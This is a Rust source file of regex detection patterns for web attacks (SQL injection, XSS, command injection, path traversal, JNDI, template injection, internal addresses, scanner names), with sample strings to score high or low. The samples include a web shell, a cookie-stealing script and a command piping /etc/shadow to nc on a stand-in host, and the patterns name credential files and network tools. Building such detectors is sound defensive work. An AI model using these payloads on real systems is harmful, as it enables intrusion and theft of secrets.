//! The patterns: families of attacks on web applications, each a template and the words that go into it.
//!
//! They are made up for this program and protect nothing. What is real about them is their number and their shape:
//! alternatives, classes and gaps, as in a firewall's rules.

/// Texts which should score high.
pub const ATTACKS: &[&str] = &[
    "' or '1'='1' -- ",
    "\" onmouseover=\"alert(1)",
    "<script>document.location='//x/'+document.cookie</script>",
    "../../../../etc/passwd%00",
    "; cat /etc/shadow | nc 10.0.0.1 4444 #",
    "${jndi:ldap://x/a}",
    "{{7*7}}{%import os%}",
    "<?php system($_GET['c']); ?>",
];

/// Texts which should score low.
pub const PROSE: &[&str] = &[
    "the quick brown fox jumps over the lazy dog",
    "please send two of these to my office before noon on monday",
    "how do i change the address of an order that has already been shipped",
    "a review of the best small cameras for travel and street photography",
    "thank you for the fast answer, everything works again",
];

/// Every pattern, for a matcher without regard to case.
pub fn all() -> Vec<String> {
    let mut patterns = Vec::new();
    for (template, words) in FAMILIES {
        patterns.extend(words.split_whitespace().map(|word| template.replace("WORD", &regex::escape(word))));
    }
    for tag in TAGS.split_whitespace() {
        patterns.extend(
            EVENTS.split_whitespace().map(|event| format!(r#"<{tag}[\s/][^>]*\b{event}\s*=\s*["'`]?[^"'`>]+[(`]"#)),
        );
    }
    patterns
}

/// Templates, in which `WORD` stands for each of the words.
const FAMILIES: &[(&str, &str)] = &[
    // A condition that is always true, and a statement put behind the end of a value.
    (
        r#"["'`)]?\s+\bWORD\b\s+\(?["'`]?(?:[a-z0-9_]+)["'`]?\s*(?:=|<>|\blike\b|\bis\b)\s*["'`]?[a-z0-9_]"#,
        "or and xor having where not",
    ),
    (
        r#"["'`)]\s*(?:;|\bor\b|\band\b|\|\||&&)\s*(?:not\s+)?\bWORD\b[^a-z0-9]+"#,
        "select insert update delete drop alter create truncate exec execute declare grant merge call shutdown",
    ),
    (r#"\bunion\b(?:\s|/\*[^*]*\*/)+(?:all|distinct)?(?:\s|/\*[^*]*\*/)*\bWORD\b"#, "select values table with"),
    // A function which is of use to nobody but an attacker.
    (
        r#"[^a-z_]WORD\s*\((?:[^()]*\([^()]*\))?[^()]*\)"#,
        "sleep benchmark pg_sleep waitfor load_file extractvalue updatexml xp_cmdshell utl_http dbms_pipe \
         group_concat concat_ws char_length ascii substring substr hex unhex version current_user session_user \
         database schema system_user row_count found_rows",
    ),
    (r#"\bWORD\b\s*(?:\.|/\*|--|#|$)"#, "information_schema sysobjects syscolumns pg_catalog sqlite_master mysql"),
    // A command put behind the end of an argument.
    (
        r#"(?:[;|&`\n]|\$\(|\bxargs\s)\s*(?:/(?:usr/)?s?bin/)?WORD\b(?:\s+-[a-z-]+){0,3}(?:\s|$|[;|&`)])"#,
        "cat ls id whoami uname wget curl nc ncat bash sh zsh python python3 perl ruby php node awk sed chmod chown \
         kill ping nslookup dig ssh scp telnet base64 xxd tee rm cp mv env printenv",
    ),
    // A file that no page should name.
    (
        r#"(?:\.+[/\\]|%2e%2e(?:%2f|%5c|[/\\])|[a-z]:[/\\]|^/)+[^?&=]*WORD"#,
        "etc/passwd etc/shadow etc/hosts etc/group proc/self/environ proc/self/cmdline var/log/auth.log boot.ini win.ini \
         web.config wp-config.php .htpasswd .htaccess .ssh/id_rsa .aws/credentials .env .git/config .bash_history",
    ),
    // Script in places where a link or an image is expected.
    (
        r#"(?:href|src|action|formaction|data|poster|background)\s*=\s*["'`]?\s*WORD\s*:[^\s"'>]+"#,
        "javascript vbscript livescript data feed blob view-source",
    ),
    (r#"<\s*/?\s*WORD(?:[\s/>]|$)"#, "script iframe object embed applet meta base frameset xml svg math"),
    (
        r#"\b(?:document|window|self|top|parent|globalThis)\s*(?:\.|\[\s*["'`])\s*WORD\b"#,
        "cookie location domain write writeln eval setTimeout setInterval localStorage sessionStorage opener postMessage",
    ),
    // Code for the language the server may be written in.
    (
        r#"(?:<\?(?:php|=)?|\$\{?[a-z_]+\}?\s*=|[;{(])\s*WORD\s*\(\s*["'$@]"#,
        "eval assert system exec shell_exec passthru popen proc_open include require include_once require_once \
         file_get_contents file_put_contents preg_replace create_function call_user_func array_map unserialize \
         base64_decode gzinflate str_rot13 move_uploaded_file",
    ),
    (
        r#"\$\{(?:[^}]*\$\{)?[^}]*WORD[^}]*:[^}]+\}?"#,
        "jndi ldap ldaps rmi dns iiop nis corba env sys lower upper date main java ctx",
    ),
    (
        r#"(?:^|[^a-z0-9.])WORD(?:\.[a-z]+){0,3}\.(?:[A-Z][a-z0-9]+)+\b"#,
        "java.lang java.util java.io java.net javax.script org.apache.commons org.springframework com.sun.rowset \
         ognl freemarker.template sun.misc groovy.lang",
    ),
    (
        r#"(?:\{\{|\{%|<%=?|#\{)[^}%>]*\bWORD\b[^}%>]*(?:\}\}|%\}|%>|\})"#,
        "config self request class mro subclasses globals builtins import popen range cycler joiner namespace lipsum",
    ),
    (r#"(?:^|[\[.])__?WORD__?(?:[\].(]|$)"#, "proto class bases globals builtins import init mro subclasses dict code"),
    // Addresses inside.
    (
        r#"(?:https?|ftp|gopher|dict|file|ldap)://(?:[^/@\s]*@)?WORD(?::[0-9]{1,5})?(?:[/?#]|$)"#,
        "localhost 127.0.0.1 0.0.0.0 169.254.169.254 metadata.google.internal 100.100.100.200 [::1] 10.0.0.1",
    ),
    // Programs that look for holes name themselves.
    (
        r#"(?:^|[\s(/;])WORD(?:[/ _-]v?[0-9]{1,3}(?:\.[0-9]+){0,3})?(?:[\s);]|$)"#,
        "sqlmap nikto nmap masscan zgrab dirbuster gobuster ffuf wfuzz hydra nessus openvas acunetix arachni wpscan \
         joomscan whatweb nuclei jaeles commix havij burpsuite zaproxy skipfish w3af",
    ),
    (r#"(?:\r?\n|%0d%0a|%0a)\s*WORD\s*:\s*[^\r\n]+"#, "set-cookie location content-type content-length host"),
];

const TAGS: &str =
    "a body button details div form iframe img input link marquee object select style svg table textarea video";

const EVENTS: &str =
    "onabort onblur onchange onclick onerror onfocus oninput onload onmouseover onpaste onsubmit ontoggle";
